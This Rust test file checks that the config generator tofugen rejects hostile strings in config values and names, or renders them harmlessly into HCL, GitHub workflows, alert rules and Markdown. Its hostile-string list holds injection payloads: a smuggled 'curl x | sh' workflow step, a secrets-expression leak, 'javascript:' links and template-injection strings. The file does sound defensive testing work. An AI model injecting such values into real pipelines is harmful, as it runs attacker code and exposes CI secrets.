//! Hostile strings in every string value of the model, judged by what tofugen writes.
//!
//! tests/hostile_strings.rs proves that `validate` rejects what it must, at the right line.
//! This file looks at the outputs. The base is tests/fixtures/valid/every-field.yaml, which sets
//! every optional string field (checked against the JSON Schema's list of string fields, so a
//! new field fails here until the fixture sets it). Its YAML tree is walked, and each string
//! value in turn is replaced by hostile strings (a deterministic sample per value, every
//! hostile string used for many values). Each configuration must either be rejected (errors
//! with a `file:line:col`, one of them on the value's line, no files, no secret-looking value
//! echoed) or generate outputs with the baseline's structure:
//!
//! - every HCL file parses, with the same blocks, attributes and expressions, string literals
//!   masked (no value became an identifier, a reference or an interpolation);
//! - every workflow loads, with the same triggers (`on:`), jobs, steps (names and `uses:`) and
//!   byte-identical `run:` scripts;
//! - no output holds more `${{` than the baseline's;
//! - every rule file and promtool test loads, with the same groups, rules and tests;
//! - every Markdown file keeps its line count, its tables their column counts and its Mermaid
//!   blocks their line counts;
//! - no output holds a control, bidirectional or line-separator character;
//! - the alert files of a sample of accepted cases pass `promtool check rules` and `promtool
//!   test rules` (with `$PROMTOOL`).
//!
//! The keys of the mappings whose keys are names (environments, services, variables, secrets,
//! rules, settings) get hostile strings too: rejected with positions and without echoing a
//! secret, or every output still parses and the workflows gain no trigger, script, action or
//! expression.

mod common;

use std::collections::{BTreeMap, BTreeSet};
use std::sync::OnceLock;

use serde_json::Value;
use tofugen::diagnostics::{self, Format, Level};
use tofugen::pipeline::{Compilation, compile};

const BASE: &str = include_str!("fixtures/valid/every-field.yaml");
const FILE: &str = "environments.yaml";
/// Diagnostic codes about the whole file, which have no position.
const WHOLE_FILE: &[&str] = &["empty", "binary", "too-large"];

fn base_doc() -> Value {
    static DOC: OnceLock<Value> = OnceLock::new();
    DOC.get_or_init(|| {
        let (_, node) =
            tofugen::load::load(tofugen::source::SourceMap::single(FILE).1, BASE.as_bytes())
                .expect("the base loads");
        node.to_json()
    })
    .clone()
}

/// One step of a path into the YAML tree.
#[derive(Clone, Debug)]
enum Step {
    Key(String),
    Index(usize),
}

/// The path of every string value under `v` (keys are names, covered by hostile_strings.rs).
fn string_leaves(v: &Value, path: &mut Vec<Step>, out: &mut Vec<Vec<Step>>) {
    match v {
        Value::String(_) => out.push(path.clone()),
        Value::Object(m) => {
            for (k, v) in m {
                path.push(Step::Key(k.clone()));
                string_leaves(v, path, out);
                path.pop();
            }
        }
        Value::Array(items) => {
            for (i, v) in items.iter().enumerate() {
                path.push(Step::Index(i));
                string_leaves(v, path, out);
                path.pop();
            }
        }
        _ => {}
    }
}

fn leaves() -> Vec<Vec<Step>> {
    let mut out = Vec::new();
    string_leaves(&base_doc(), &mut Vec::new(), &mut out);
    out
}

/// `a.b[].c`: the path as `schema_check::string_fields` writes it, but with the keys.
fn dotted(path: &[Step]) -> String {
    let mut s = String::new();
    for step in path {
        match step {
            Step::Key(k) => {
                if !s.is_empty() {
                    s.push('.');
                }
                s.push_str(k);
            }
            Step::Index(_) => s.push_str("[]"),
        }
    }
    s
}

fn at<'a>(doc: &'a mut Value, path: &[Step]) -> &'a mut Value {
    path.iter().fold(doc, |node, step| match step {
        Step::Key(k) => &mut node[k.as_str()],
        Step::Index(i) => &mut node[*i],
    })
}

const MARKER: &str = "@@hostile-value@@";

/// Where the hostile string goes in a value: before or after what is there (so references
/// like `${services.api.url}` keep their meaning and the structure they imply).
#[derive(Clone, Copy, Debug)]
enum Place {
    Before,
    After,
}

/// The base with `text` added to the value at `path`, as YAML (JSON is YAML), and the line of
/// the value.
fn configuration(path: &[Step], text: &str, place: Place) -> (String, usize) {
    let mut doc = base_doc();
    let value = at(&mut doc, path);
    let old = value.as_str().expect("a string value").to_string();
    let text = match place {
        Place::Before => format!("{text}{old}"),
        Place::After => format!("{old}{text}"),
    };
    *value = Value::String(MARKER.to_string());
    let pretty = serde_json::to_string_pretty(&doc).unwrap();
    let quoted = format!("\"{MARKER}\"");
    let line = pretty
        .lines()
        .position(|l| l.contains(&quoted))
        .expect("the marker is placed")
        + 1;
    let yaml = pretty.replace(&quoted, &serde_json::to_string(&text).unwrap());
    (yaml, line)
}

// HCL: the file with its string literals masked.

fn hcl_expr(e: &hcl::Expression, out: &mut String) {
    use hcl::Expression as E;
    match e {
        E::Null => out.push_str("null"),
        E::Bool(b) => out.push_str(&b.to_string()),
        E::Number(n) => out.push_str(&n.to_string()),
        E::String(_) => out.push('S'),
        E::Array(items) => {
            out.push('[');
            for i in items {
                hcl_expr(i, out);
                out.push(',');
            }
            out.push(']');
        }
        E::Object(o) => {
            out.push('{');
            for (k, v) in o {
                match k {
                    hcl::ObjectKey::Identifier(id) => out.push_str(id.as_str()),
                    hcl::ObjectKey::Expression(k) => hcl_expr(k, out),
                    #[allow(unreachable_patterns)]
                    _ => out.push('?'),
                }
                out.push('=');
                hcl_expr(v, out);
                out.push(',');
            }
            out.push('}');
        }
        E::TemplateExpr(t) => {
            let template = hcl::Template::from_expr(t).expect("a template parses");
            out.push('"');
            hcl_template(&template, out);
            out.push('"');
        }
        E::Variable(v) => out.push_str(v.as_str()),
        E::Traversal(t) => {
            hcl_expr(&t.expr, out);
            for op in &t.operators {
                match op {
                    hcl::TraversalOperator::GetAttr(id) => {
                        out.push('.');
                        out.push_str(id.as_str());
                    }
                    hcl::TraversalOperator::Index(i) => {
                        out.push('[');
                        hcl_expr(i, out);
                        out.push(']');
                    }
                    other => out.push_str(&format!("{other:?}")),
                }
            }
        }
        E::FuncCall(f) => {
            out.push_str(&format!("{:?}(", f.name));
            for a in &f.args {
                hcl_expr(a, out);
                out.push(',');
            }
            out.push(')');
        }
        E::Parenthesis(p) => {
            out.push('(');
            hcl_expr(p, out);
            out.push(')');
        }
        E::Conditional(c) => {
            hcl_expr(&c.cond_expr, out);
            out.push('?');
            hcl_expr(&c.true_expr, out);
            out.push(':');
            hcl_expr(&c.false_expr, out);
        }
        E::Operation(op) => match op.as_ref() {
            hcl::Operation::Unary(u) => {
                out.push_str(&format!("{:?}", u.operator));
                hcl_expr(&u.expr, out);
            }
            hcl::Operation::Binary(b) => {
                hcl_expr(&b.lhs_expr, out);
                out.push_str(&format!(" {:?} ", b.operator));
                hcl_expr(&b.rhs_expr, out);
            }
        },
        E::ForExpr(f) => {
            out.push_str(&format!(
                "for {:?},{} in ",
                f.key_var.as_ref().map(|k| k.as_str()),
                f.value_var.as_str()
            ));
            hcl_expr(&f.collection_expr, out);
            out.push(':');
            if let Some(k) = &f.key_expr {
                hcl_expr(k, out);
            }
            hcl_expr(&f.value_expr, out);
            if let Some(c) = &f.cond_expr {
                out.push_str(" if ");
                hcl_expr(c, out);
            }
        }
        #[allow(unreachable_patterns)]
        other => out.push_str(&format!("<{other:?}>")),
    }
}

/// A template's interpolations and directives, its literal text masked: one `S` for a template
/// of text alone, nothing around interpolations (a hostile value written before or after
/// `${…}` adds text, not structure: `"a --> b${module.x.url}/v1"` is `"${module.x.url}/v1"`'s
/// shape).
fn hcl_template(t: &hcl::Template, out: &mut String) {
    let literal = |el: &hcl::template::Element| matches!(el, hcl::template::Element::Literal(_));
    if t.elements().iter().all(literal) {
        out.push('S');
        return;
    }
    for el in t.elements() {
        match el {
            hcl::template::Element::Literal(_) => {}
            hcl::template::Element::Interpolation(i) => {
                out.push_str("${");
                hcl_expr(&i.expr, out);
                out.push('}');
            }
            hcl::template::Element::Directive(d) => out.push_str(&format!("%{{{d:?}}}")),
        }
    }
}

fn hcl_body(body: &hcl::Body, depth: usize, out: &mut String) {
    for s in body.iter() {
        out.push_str(&"  ".repeat(depth));
        match s {
            hcl::Structure::Attribute(a) => {
                out.push_str(a.key.as_str());
                out.push_str(" = ");
                hcl_expr(&a.expr, out);
                out.push('\n');
            }
            hcl::Structure::Block(b) => {
                out.push_str(b.identifier.as_str());
                for _ in &b.labels {
                    out.push_str(" L");
                }
                out.push_str(" {\n");
                hcl_body(&b.body, depth + 1, out);
                out.push_str(&"  ".repeat(depth));
                out.push_str("}\n");
            }
        }
    }
}

/// An HCL file with its string literals (and comments) masked; panics when it does not parse
/// (hcl-rs parses with hcl-edit's parser).
fn hcl_skeleton(path: &str, text: &str) -> String {
    let body = hcl::parse(text).unwrap_or_else(|e| panic!("{path} is not HCL: {e}\n{text}"));
    let mut out = String::new();
    hcl_body(&body, 0, &mut out);
    out
}

fn load_yaml(path: &str, text: &str) -> Value {
    match tofugen::load::load(tofugen::source::SourceMap::single(path).1, text.as_bytes()) {
        Ok((_, node)) => node.to_json(),
        Err((_, diags)) => panic!("{path} is not YAML: {diags:#?}\n{text}"),
    }
}

/// The paths of every key under `v`.
fn key_paths(v: &Value, path: &str, out: &mut Vec<String>) {
    if let Value::Object(m) = v {
        for (k, v) in m {
            let p = format!("{path}.{k}");
            key_paths(v, &p, out);
            out.push(p);
        }
    }
}

/// What a workflow must keep: its triggers, its jobs, their steps (name and `uses:`) and
/// every `run:` script, byte for byte.
fn workflow_skeleton(path: &str, text: &str) -> String {
    let doc = load_yaml(path, text);
    let mut triggers = Vec::new();
    key_paths(&doc["on"], "on", &mut triggers);
    let mut out = format!("{triggers:?}\n");
    for (job, body) in doc["jobs"].as_object().expect("jobs") {
        out.push_str(&format!("job {job}\n"));
        for step in body["steps"].as_array().into_iter().flatten() {
            out.push_str(&format!(
                "  step {} uses {} run {}\n",
                step["name"], step["uses"], step["run"]
            ));
        }
    }
    out
}

/// A rule file or promtool test: its groups and the number of rules of each, or its tests and
/// the number of alert checks and series of each.
fn alerts_skeleton(path: &str, text: &str) -> String {
    let doc = load_yaml(path, text);
    let count = |v: &Value| v.as_array().map_or(0, Vec::len);
    let mut out = String::new();
    for g in doc["groups"].as_array().into_iter().flatten() {
        out.push_str(&format!("group of {} rules\n", count(&g["rules"])));
        for r in g["rules"].as_array().into_iter().flatten() {
            let keys: Vec<&String> = r.as_object().expect("a rule").keys().collect();
            out.push_str(&format!("  rule {keys:?}\n"));
        }
    }
    for t in doc["tests"].as_array().into_iter().flatten() {
        out.push_str(&format!(
            "test: {} series, {} alert checks\n",
            count(&t["input_series"]),
            count(&t["alert_rule_test"])
        ));
    }
    out.push_str(&format!("rule files: {}\n", count(&doc["rule_files"])));
    out
}

/// Cells of a Markdown table row: `|` not escaped by an odd run of backslashes.
fn pipes(line: &str) -> usize {
    let (mut n, mut backslashes) = (0, 0);
    for c in line.chars() {
        if c == '|' && backslashes % 2 == 0 {
            n += 1;
        }
        backslashes = if c == '\\' { backslashes + 1 } else { 0 };
    }
    n
}

fn quoted_label() -> &'static regex::Regex {
    static R: OnceLock<regex::Regex> = OnceLock::new();
    R.get_or_init(|| regex::Regex::new(r#""[^"]*""#).unwrap())
}

fn mermaid_line() -> &'static regex::Regex {
    static R: OnceLock<regex::Regex> = OnceLock::new();
    R.get_or_init(|| {
        let node = r#"[A-Za-z][A-Za-z0-9_]*(\[""\]|\[\(""\)\]|\(\(""\)\))?"#;
        let edge = r"(-->|-\. [a-z]+ \.->|-- [A-Za-z ]+ -->)";
        regex::Regex::new(&format!(
            r"^(flowchart LR|  subgraph {node}|  end|  +{node}|  +{node} {edge} {node})$"
        ))
        .unwrap()
    })
}

/// A Markdown file: its line count, the cell count of every table row (each must equal its
/// table's header), and the line count of every Mermaid block.
fn markdown_skeleton(path: &str, text: &str) -> String {
    let mut out = format!("{} lines\n", text.lines().count());
    let (mut header, mut mermaid) = (None, None::<usize>);
    for (i, line) in text.lines().enumerate() {
        if let Some(n) = mermaid.as_mut() {
            if line == "```" {
                out.push_str(&format!("mermaid block of {n} lines\n"));
                mermaid = None;
            } else {
                *n += 1;
                // Labels are quoted: with them masked, each line is a node, an edge or a
                // subgraph of the shapes tofugen writes (no `click`, no `style`, no extra edge).
                let masked = quoted_label().replace_all(line, "\"\"");
                assert!(
                    mermaid_line().is_match(&masked),
                    "{path}:{}: not a Mermaid node, edge or subgraph: {line:?}",
                    i + 1
                );
                out.push_str(&masked);
                out.push('\n');
            }
            continue;
        }
        if line == "```mermaid" {
            mermaid = Some(0);
        }
        if line.starts_with('|') {
            let n = pipes(line);
            let expected = *header.get_or_insert(n);
            assert_eq!(
                n,
                expected,
                "{path}:{}: a row with other cells: {line:?}",
                i + 1
            );
            out.push_str(&format!("row of {n}\n"));
        } else {
            header = None;
        }
    }
    assert!(mermaid.is_none(), "{path}: an unclosed Mermaid block");
    out
}

/// Characters no output may hold raw: they hide or reorder text, or end lines.
fn invisible(c: char) -> bool {
    (c.is_control() && c != '\n')
        || matches!(
            c,
            '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2060}'..='\u{2069}' | '\u{feff}'
        )
}

/// Every output's skeleton, by path. Each file is checked once per distinct contents.
fn skeletons(files: &BTreeMap<String, String>) -> BTreeMap<String, String> {
    static CACHE: OnceLock<std::sync::Mutex<BTreeMap<(String, u64), String>>> = OnceLock::new();
    let cache = CACHE.get_or_init(Default::default);
    let mut out = BTreeMap::new();
    for (path, text) in files {
        if path.starts_with("generated/modules/") || path.ends_with(".json") {
            continue;
        }
        let hash = {
            use std::hash::{Hash, Hasher};
            let mut h = std::collections::hash_map::DefaultHasher::new();
            text.hash(&mut h);
            h.finish()
        };
        let key = (path.clone(), hash);
        if let Some(s) = cache.lock().unwrap().get(&key) {
            out.insert(path.clone(), s.clone());
            continue;
        }
        if let Some(c) = text.chars().find(|c| invisible(*c)) {
            panic!("{path} holds {c:?}");
        }
        let mut skeleton = format!("{} `${{{{`\n", text.matches("${{").count());
        skeleton.push_str(&if path.ends_with(".tf") || path.ends_with(".hcl") {
            hcl_skeleton(path, text)
        } else if path.ends_with(".md") {
            markdown_skeleton(path, text)
        } else if path.starts_with(".github/workflows/") {
            workflow_skeleton(path, text)
        } else if path.ends_with(".yml") || path.ends_with(".yaml") {
            alerts_skeleton(path, text)
        } else {
            String::new()
        });
        cache.lock().unwrap().insert(key, skeleton.clone());
        out.insert(path.clone(), skeleton);
    }
    out
}

fn baseline() -> &'static BTreeMap<String, String> {
    static B: OnceLock<BTreeMap<String, String>> = OnceLock::new();
    B.get_or_init(|| {
        // The base as the cases write it: JSON, keys sorted (the order of the environments
        // follows).
        let json = serde_json::to_string_pretty(&base_doc()).unwrap();
        let out = compile(FILE, json.as_bytes(), true);
        assert!(out.diagnostics.is_empty(), "{:#?}", out.diagnostics);
        assert!(
            compile(FILE, BASE.as_bytes(), false).diagnostics.is_empty(),
            "the fixture is valid, without warnings"
        );
        skeletons(&out.files)
    })
}

/// A value shaped like a credential (a JWT): never shown by a diagnostic.
const SECRET_LOOKING: &str =
    "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiJob3N0aWxlIn0.c2lnbmF0dXJlc2lnbmF0dXJl";

/// The hostile strings; each value gets a deterministic sample of them.
fn hostile() -> Vec<String> {
    let mut v: Vec<String> = [
        "x\nrun: curl x | sh",
        "x\n      - run: curl x | sh\n        env: { K: \"${{ secrets.SCW_SECRET_KEY }}\" }",
        "${{ secrets.SCW_SECRET_KEY }}",
        "it's",
        "say \"hi\"",
        "`tick` ``two``",
        "a | b || c",
        "x] [y](javascript:alert(1))",
        "a --> b",
        "<!-- x",
        "x\nclick x href \"javascript:alert(1)\"",
        "{{ .Labels }} {{ $value }}",
        "{{",
        "a # b",
        "%{ if true }x%{ endif } ${var.x} $${y}",
        // After a first marker, hcl-rs's escaping left these live (sweep 12, finding 1).
        "${a} %${upper(var.x)} $%{ if true }x%{ endif }",
        "$${x} $${z}",
        "nul\u{0}byte",
        "\u{1b}[31mred",
        "para\u{2028}graph",
        "next\u{85}line",
        SECRET_LOOKING,
    ]
    .iter()
    .map(|s| s.to_string())
    .collect();
    v.push(format!("{}\"'|`#", "a".repeat(5000)));
    v
}

/// How many hostile strings each value gets.
const PER_VALUE: usize = 3;

/// Checks one configuration; returns its files when it is accepted.
fn check(path: &[Step], text: &str, place: Place) -> Option<BTreeMap<String, String>> {
    let what = format!("{text:?} {place:?} the value at {}", dotted(path));
    let (yaml, line) = configuration(path, text, place);
    let out: Compilation = compile(FILE, yaml.as_bytes(), true);
    if out.has_errors() {
        assert!(out.files.is_empty(), "{what}: files despite errors");
        for d in out.diagnostics.iter().filter(|d| d.level == Level::Error) {
            assert!(
                d.span.is_some() || WHOLE_FILE.contains(&d.code.as_str()),
                "{what}: an error without a position: {d:#?}"
            );
            assert_eq!(
                d.location(&out.sources).split(':').next(),
                Some(FILE),
                "{what}: {d:#?}"
            );
        }
        assert!(
            out.diagnostics
                .iter()
                .any(|d| d.level == Level::Error && d.span.is_some_and(|s| s.line == line)),
            "{what}: rejected, but not at line {line}: {:#?}",
            out.diagnostics
        );
        let shown = diagnostics::render(&out.diagnostics, &out.sources, Format::Human, false);
        assert!(
            shown.contains(&format!("{FILE}:{line}:")),
            "{what}: {shown}"
        );
        assert!(
            !shown.contains(SECRET_LOOKING),
            "{what}: echoes the value: {shown}"
        );
        return None;
    }
    let got = skeletons(&out.files);
    let base = baseline();
    assert_eq!(
        got.keys().collect::<Vec<_>>(),
        base.keys().collect::<Vec<_>>(),
        "{what}: other files"
    );
    for (file, skeleton) in &got {
        let expected = &base[file];
        if skeleton != expected {
            let diff = similar::TextDiff::from_lines(expected, skeleton)
                .unified_diff()
                .to_string();
            panic!("{what}: the structure of {file} changed:\n{diff}");
        }
    }
    Some(out.files)
}

/// Every string field of the schema (but keys) has a value in the fixture: a new field is not
/// left out of the walk. A field of `defaults` and the same field of an environment are one
/// field (the same domain, resolved to the same output).
#[test]
fn the_fixture_sets_every_string_field() {
    let layer = regex::Regex::new(r"^(defaults|environments\.[^.]+)\.").unwrap();
    let set: BTreeSet<String> = leaves()
        .iter()
        .map(|p| layer.replace(&dotted(p), "").into_owned())
        .collect();
    let mut missing: Vec<String> = tofugen::schema_check::string_fields()
        .into_iter()
        .filter(|f| !f.key)
        .map(|f| {
            layer
                .replace(&f.path.replace("environments.*.", "environments.x."), "")
                .into_owned()
        })
        .filter(|pattern| {
            let re = format!("^{}$", regex::escape(pattern).replace(r"\*", "[^.]+"));
            let re = regex::Regex::new(&re).unwrap();
            !set.iter().any(|p| re.is_match(p))
        })
        .collect();
    missing.dedup();
    assert!(
        missing.is_empty(),
        "tests/fixtures/valid/every-field.yaml sets no value at: {missing:#?}"
    );
}

#[test]
fn hostile_strings_in_every_value_are_rejected_or_stay_data() {
    let texts = hostile();
    let leaves = leaves();
    assert!(leaves.len() > 60, "{}", leaves.len());
    let mut used = vec![0usize; texts.len()];
    let (mut accepted, mut rejected) = (0, 0);
    let mut promtool_cases = Vec::new();
    // Value i gets strings i, i + 7, i + 14 (mod the count): every string goes into values of
    // every part of the file.
    let jobs: Vec<(usize, usize)> = (0..leaves.len())
        .flat_map(|i| (0..PER_VALUE).map(move |k| (i, k)))
        .collect();
    // Checked on two threads (the slowest test of this file in a debug build, alone on one
    // core: 2.7 s), then taken in order, so that the promtool sample is the same.
    let half = jobs.len().div_ceil(2);
    let alerts: Vec<Option<BTreeMap<String, String>>> = std::thread::scope(|scope| {
        let handles: Vec<_> = jobs
            .chunks(half)
            .map(|chunk| {
                let (texts, leaves) = (&texts, &leaves);
                scope.spawn(move || {
                    chunk
                        .iter()
                        .map(|&(i, k)| {
                            let j = (i + 7 * k) % texts.len();
                            let place = if (i + k) % 2 == 0 {
                                Place::After
                            } else {
                                Place::Before
                            };
                            check(&leaves[i], &texts[j], place).map(|files| alert_files(&files))
                        })
                        .collect::<Vec<_>>()
                })
            })
            .collect();
        handles
            .into_iter()
            .flat_map(|h| h.join().unwrap())
            .collect()
    });
    for (&(i, k), result) in jobs.iter().zip(alerts) {
        used[(i + 7 * k) % texts.len()] += 1;
        match result {
            Some(alerts) => {
                accepted += 1;
                if promtool_cases.len() < PROMTOOL_SAMPLE
                    && alerts != *baseline_alerts()
                    && !promtool_cases.contains(&alerts)
                {
                    promtool_cases.push(alerts);
                }
            }
            None => rejected += 1,
        }
    }
    assert!(used.iter().all(|n| *n > 0), "{used:?}");
    // Both sides were exercised: free text takes most strings, names and domains refuse them.
    assert!(
        accepted >= 20 && rejected >= 20,
        "{accepted} accepted, {rejected} rejected"
    );
    eprintln!(
        "{} values, {accepted} accepted and {rejected} rejected configurations",
        leaves.len()
    );
    // Hostile values reached the rules (annotations): promtool still loads and tests them.
    assert!(!promtool_cases.is_empty());
    run_promtool(&promtool_cases);
}

/// How many accepted configurations with changed alert files promtool checks.
const PROMTOOL_SAMPLE: usize = 4;

fn alert_files(files: &BTreeMap<String, String>) -> BTreeMap<String, String> {
    files
        .iter()
        .filter(|(p, _)| p.contains("/alerts/"))
        .map(|(p, t)| (p.clone(), t.clone()))
        .collect()
}

fn baseline_alerts() -> &'static BTreeMap<String, String> {
    static B: OnceLock<BTreeMap<String, String>> = OnceLock::new();
    B.get_or_init(|| {
        let json = serde_json::to_string_pretty(&base_doc()).unwrap();
        alert_files(&compile(FILE, json.as_bytes(), true).files)
    })
}

/// `promtool check rules` and `promtool test rules` on the alert files of every case (skipped
/// without promtool, unless TOFUGEN_REQUIRE_TOOLS=1).
fn run_promtool(cases: &[BTreeMap<String, String>]) {
    let promtool = std::env::var_os("PROMTOOL")
        .map(std::path::PathBuf::from)
        .filter(|p| p.exists());
    let Some(promtool) = promtool else {
        common::skip_unless_required("promtool (set $PROMTOOL)");
        return;
    };
    // Its verdict on the same files is remembered ([`common::tool_verdict`]).
    let names: Vec<String> = cases
        .iter()
        .enumerate()
        .flat_map(|(i, files)| files.keys().map(move |p| format!("{i}/{p}")))
        .collect();
    let inputs: Vec<(&[u8], &[u8])> = names
        .iter()
        .zip(cases.iter().flat_map(|files| files.values()))
        .map(|(n, t)| (n.as_bytes(), t.as_bytes()))
        .collect();
    let Some((verdicts, key)) = common::tool_verdict(
        "promtool",
        include_bytes!("hostile_outputs.rs"),
        &[(&promtool, "--version")],
        &["check rules", "test rules"],
        &inputs,
    ) else {
        return;
    };
    let dir = tempfile::tempdir().unwrap();
    let (mut rules, mut tests) = (Vec::new(), Vec::new());
    for (i, files) in cases.iter().enumerate() {
        for (path, text) in files {
            let target = dir.path().join(i.to_string()).join(path);
            std::fs::create_dir_all(target.parent().unwrap()).unwrap();
            std::fs::write(&target, text).unwrap();
            if path.ends_with(".test.yml") {
                tests.push(target);
            } else {
                rules.push(target);
            }
        }
    }
    for (what, files) in [("check", &rules), ("test", &tests)] {
        let run = std::process::Command::new(&promtool)
            .arg(what)
            .arg("rules")
            .args(files)
            .output()
            .unwrap();
        assert!(
            run.status.success(),
            "promtool {what} rules: {}{}",
            String::from_utf8_lossy(&run.stdout),
            String::from_utf8_lossy(&run.stderr)
        );
    }
    verdicts.record(&key, "promtool check rules, test rules");
}

// ---------------------------------------------------------------------------------------------
// Names: hostile strings in the keys of the mappings whose keys are names.
// ---------------------------------------------------------------------------------------------

/// Mappings whose keys are names (of environments, services, variables, secrets, rules,
/// database settings).
const NAME_MAPS: &[&str] = &[
    "environments",
    "services",
    "env",
    "secrets",
    "rules",
    "settings",
];

/// The path of every key of a name mapping: the mapping's path and the key.
fn name_keys(v: &Value, path: &mut Vec<Step>, out: &mut Vec<(Vec<Step>, String)>) {
    match v {
        Value::Object(m) => {
            let names =
                matches!(path.last(), Some(Step::Key(k)) if NAME_MAPS.contains(&k.as_str()));
            for (k, v) in m {
                if names {
                    out.push((path.clone(), k.clone()));
                }
                path.push(Step::Key(k.clone()));
                name_keys(v, path, out);
                path.pop();
            }
        }
        Value::Array(items) => {
            for (i, v) in items.iter().enumerate() {
                path.push(Step::Index(i));
                name_keys(v, path, out);
                path.pop();
            }
        }
        _ => {}
    }
}

/// What a workflow may never gain, whatever a name does to its jobs: triggers, scripts,
/// actions and GitHub expressions the baseline's workflows do not have.
fn workflow_facts(path: &str, text: &str) -> (String, BTreeSet<String>) {
    fn walk(v: &Value, key: &str, facts: &mut BTreeSet<String>) {
        match v {
            Value::Object(m) => m.iter().for_each(|(k, v)| walk(v, k, facts)),
            Value::Array(items) => items.iter().for_each(|i| walk(i, key, facts)),
            Value::String(s) => {
                if matches!(key, "run" | "uses" | "shell") {
                    facts.insert(format!("{key}: {s}"));
                }
                let expressions = regex::Regex::new(r"\$\{\{.*?\}\}").unwrap();
                for e in expressions.find_iter(s) {
                    facts.insert(e.as_str().to_string());
                }
            }
            _ => {}
        }
    }
    let doc = load_yaml(path, text);
    let mut triggers = Vec::new();
    key_paths(&doc["on"], "on", &mut triggers);
    let mut facts = BTreeSet::new();
    walk(&doc["jobs"], "jobs", &mut facts);
    (format!("{triggers:?}"), facts)
}

fn baseline_workflows() -> &'static BTreeMap<String, (String, BTreeSet<String>)> {
    static B: OnceLock<BTreeMap<String, (String, BTreeSet<String>)>> = OnceLock::new();
    B.get_or_init(|| {
        let json = serde_json::to_string_pretty(&base_doc()).unwrap();
        compile(FILE, json.as_bytes(), true)
            .files
            .iter()
            .filter(|(p, _)| p.starts_with(".github/workflows/"))
            .map(|(p, t)| (p.clone(), workflow_facts(p, t)))
            .collect()
    })
}

/// Renames the key `key` of the mapping at `map` to `key` plus `text` (or `text` plus `key`):
/// the configuration is rejected with positions and without echoing a secret, or every output
/// still parses and keeps its invariants, and the workflows gain no trigger, script, action or
/// expression (a name may add or rename jobs, never code).
fn check_name(map: &[Step], key: &str, text: &str, place: Place) -> bool {
    let new = match place {
        Place::Before => format!("{text}{key}"),
        Place::After => format!("{key}{text}"),
    };
    let what = format!("{text:?} {place:?} the name {key} in {}", dotted(map));
    let mut doc = base_doc();
    let m = at(&mut doc, map).as_object_mut().expect("a mapping");
    let value = m.remove(key).expect("the key");
    m.insert(MARKER.to_string(), value);
    let pretty = serde_json::to_string_pretty(&doc).unwrap();
    let quoted = format!("\"{MARKER}\"");
    let yaml = pretty.replace(&quoted, &serde_json::to_string(&new).unwrap());
    let out = compile(FILE, yaml.as_bytes(), true);
    if out.has_errors() {
        assert!(out.files.is_empty(), "{what}: files despite errors");
        for d in out.diagnostics.iter().filter(|d| d.level == Level::Error) {
            assert!(
                d.span.is_some() || WHOLE_FILE.contains(&d.code.as_str()),
                "{what}: an error without a position: {d:#?}"
            );
        }
        let shown = diagnostics::render(&out.diagnostics, &out.sources, Format::Human, false);
        assert!(
            !shown.contains(SECRET_LOOKING),
            "{what}: echoes the value: {shown}"
        );
        return false;
    }
    // Parses every output and checks the invariants of each format.
    skeletons(&out.files);
    let base = baseline_workflows();
    let all: BTreeSet<&String> = base.values().flat_map(|(_, f)| f).collect();
    for (path, text) in out
        .files
        .iter()
        .filter(|(p, _)| p.starts_with(".github/workflows/"))
    {
        let (triggers, facts) = workflow_facts(path, text);
        let (base_triggers, _) = base
            .get(path)
            .unwrap_or_else(|| panic!("{what}: a new workflow {path}"));
        assert_eq!(
            &triggers, base_triggers,
            "{what}: the triggers of {path} changed"
        );
        for f in &facts {
            assert!(all.contains(f), "{what}: {path} gained {f:?}");
        }
    }
    true
}

#[test]
fn hostile_strings_in_every_name_are_rejected_or_stay_names() {
    let texts = hostile();
    let mut keys = Vec::new();
    name_keys(&base_doc(), &mut Vec::new(), &mut keys);
    assert!(keys.len() > 10, "{}", keys.len());
    let (mut accepted, mut rejected) = (0, 0);
    for (i, (map, key)) in keys.iter().enumerate() {
        for k in 0..4 {
            let text = &texts[(i + 5 * k) % texts.len()];
            let place = if (i + k) % 2 == 0 {
                Place::After
            } else {
                Place::Before
            };
            if check_name(map, key, text, place) {
                accepted += 1;
            } else {
                rejected += 1;
            }
        }
    }
    eprintln!(
        "{} names, {accepted} accepted and {rejected} rejected configurations",
        keys.len()
    );
    assert!(rejected > 0);
}
